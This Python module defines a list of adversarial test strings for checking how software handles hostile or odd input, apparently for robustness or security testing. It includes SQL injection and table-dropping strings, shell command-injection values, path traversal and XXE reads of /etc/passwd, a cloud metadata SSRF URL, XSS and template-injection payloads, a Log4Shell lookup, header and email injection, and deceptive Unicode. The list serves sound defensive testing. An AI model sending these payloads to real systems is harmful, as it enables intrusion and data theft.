"""Texts that programs have tripped over: for SQL, shells, templates, pages, headers, paths, Unicode."""

STRINGS = (
    "Ana O'Neil", "",
    # Databases
    "' OR '1'='1", "'; DROP TABLE projects; --", '" OR ""="', "1; SELECT randomblob(1000000000)",
    "\\'; --", "%' AND 1=1 --", "?1", ":id", "$1", "\x00'",
    # Shells, paths, other machines
    "$(touch /tmp/accessd-was-here)", "`id`", "| id", "; id &", "../../../../etc/passwd", "..%2f..%2f",
    "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "https://user:pass@example.com/",
    "\\\\host\\share", "//example.com/x", "javascript:alert(1)",
    # Pages, templates, spreadsheets, formats
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}{{{code}}}{{#project}}",
    "${jndi:ldap://example.com/a}", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "=HYPERLINK(\"https://example.com\")", "%s%n%x%999999999d", "{0}{name!r}",
    # Lines and headers
    "a\r\nBcc: eve@example.com", "a\nSet-Cookie: x=y", "a\r\n\r\n<html>", '{"level":"error"}\n{',
    "%0d%0aX-Injected: 1",
    # Text that isn't what it seems
    "\u202egnp.exe", "a\u200bb\u2060c\ufeff", "e" + "\u0301" * 60, "\U0001f469\u200d\U0001f4bb", "ﷺ" * 20,
    "\ud800", "\x7f\x1b[31mred", "İıſK", "x" * 1000, "null", "undefined", "__proto__", "-1", "1e309",
    # Addresses that are more than one, or none
    "ana@example.com,eve@example.com", "ana@example.com\u0000@evil.example", '"a b"@example.com',
    "<ana@example.com>", "ana@example.com@evil.example", "ａｎａ@ｅｘａｍｐｌｅ．ｃｏｍ", "+1" * 400,
)
